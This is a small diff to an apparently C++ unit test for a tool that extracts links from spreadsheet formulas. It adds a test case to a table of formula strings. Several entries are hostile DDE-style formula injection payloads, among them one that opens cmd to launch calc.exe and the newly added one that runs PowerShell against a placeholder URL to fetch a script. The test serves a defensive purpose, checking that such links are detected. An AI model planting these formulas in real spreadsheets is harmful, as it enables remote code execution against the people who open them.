@@ -344,6 +344,7 @@ TEST_CASE("formulas") {
       {"of:=COM.MICROSOFT.WEBSERVICE(\"http://a/\")", {"http://a/ ="}, LinkKind::kOther},
       {"_xlfn.IMAGE(\"http://a/i.png\",\"alt\")", {"http://a/i.png ="}, LinkKind::kImage},
       {"cmd|'/c calc.exe'!A1", {"cmd|'/c calc.exe' ="}, LinkKind::kMedia},
+      {"cmd|'/k powershell http://b/p.ps1'!A1", {"http://b/p.ps1 ="}, LinkKind::kMedia},
       {"Excel|'C:\\x.xls'!R1C1", {"C:\\x.xls ="}, LinkKind::kMedia},
       {"DDE(\"soffice\";\"file:///x.ods\";\"A1\")", {"file:///x.ods ="}, LinkKind::kMedia},
       {"A|'b'", {}},
